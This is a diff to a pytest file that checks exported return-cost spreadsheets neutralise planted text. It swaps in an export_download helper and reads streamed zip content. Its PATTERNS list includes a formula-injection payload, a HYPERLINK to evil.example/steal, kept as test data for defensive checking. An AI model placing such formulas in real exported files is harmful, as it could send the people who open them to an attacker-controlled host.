@@ -10,6 +10,7 @@ import zipfile
 from typing import Any
 
 import pytest
+from job_helpers import export_download
 from openpyxl import load_workbook
 from returns_helpers import GOOD_INDICATORS, OWN, YEAR, client_for, filled, make_sites, people
 
@@ -18,7 +19,7 @@ from csceval.web.audit_trail.services import audit_record
 from csceval.web.exports.safe_cells import safe_cell
 from csceval.web.returns.models import CostLine, PilotReturn
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("export_files")]
 
 PATTERNS = [
     '=HYPERLINK("http://evil.example/steal","x")',
@@ -64,11 +65,11 @@ def evaluator() -> Any:
 
 
 def _export(user: Any, fmt: str) -> dict[str, bytes]:
-    response = client_for(user).post(
-        "/exports/return_costs/", {"file_format": fmt, "purpose": "Check planted text is inert"}
+    response = export_download(
+        client_for(user), "return_costs", file_format=fmt, purpose="Check planted text is inert"
     )
     assert response.status_code == 200, response.content[:500]
-    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
         return {name: archive.read(name) for name in archive.namelist()}
 
 
